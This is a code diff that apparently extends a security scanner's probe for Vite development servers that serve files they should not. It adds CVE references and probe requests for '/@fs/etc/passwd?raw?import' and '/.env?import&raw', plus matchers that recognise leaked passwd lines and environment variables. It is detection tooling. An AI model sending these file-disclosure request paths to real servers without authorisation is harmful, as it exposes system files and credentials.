@@ -1,3 +1,4 @@
+import { jsonValue, readVariables } from '../../evidence/parse/secrets/exposed-file.ts';
 import { defineFileProbe } from '../define-file-probe.ts';
 import { htmlAnswer, jsonAnswer, textAnswer } from '../scene-answers.ts';
 
@@ -29,7 +30,7 @@ export default defineFileProbe({
       },
     },
   },
-  references: ['CWE-489', 'CVE-2025-30208', 'OWASP A05:2021'],
+  references: ['CWE-489', 'CVE-2025-30208', 'CVE-2025-31125', 'CVE-2026-39364', 'OWASP A05:2021'],
   files: [
     {
       path: '/@vite/client',
@@ -51,6 +52,25 @@ export default defineFileProbe({
         '<h1>403 Restricted</h1><p>The request url "/etc/passwd" is outside of Vite serving allow list.</p>',
         403,
       ),
+    },
+    {
+      path: '/@fs/etc/passwd?raw?import',
+      problem: 'files',
+      proves: ({ text }) =>
+        /^export default "/.test(text) && PASSWD.test(text) ? { shows: 'the server’s /etc/passwd' } : undefined,
+      example: textAnswer('export default "root:x:0:0:root:/root:/bin/bash\\n"', 'text/javascript'),
+      twin: htmlAnswer('<h1>403 Restricted</h1>', 403),
+    },
+    {
+      path: '/.env?import&raw',
+      problem: 'files',
+      proves: ({ text }) => {
+        const file = jsonValue(/^export default ("[^\n]{0,20000}")/.exec(text)?.[1] ?? '');
+        const variables = typeof file === 'string' ? readVariables(file) : undefined;
+        return variables ? { shows: `.env file with ${variables.names.length} variables` } : undefined;
+      },
+      example: textAnswer('export default "SESSION_SECRET=warm\\nPORT=3000\\n"\n', 'text/javascript'),
+      twin: textAnswer('export default "/assets/env.svg"\n', 'text/javascript'),
     },
     {
       path: '/_next/static/development/_buildManifest.js',
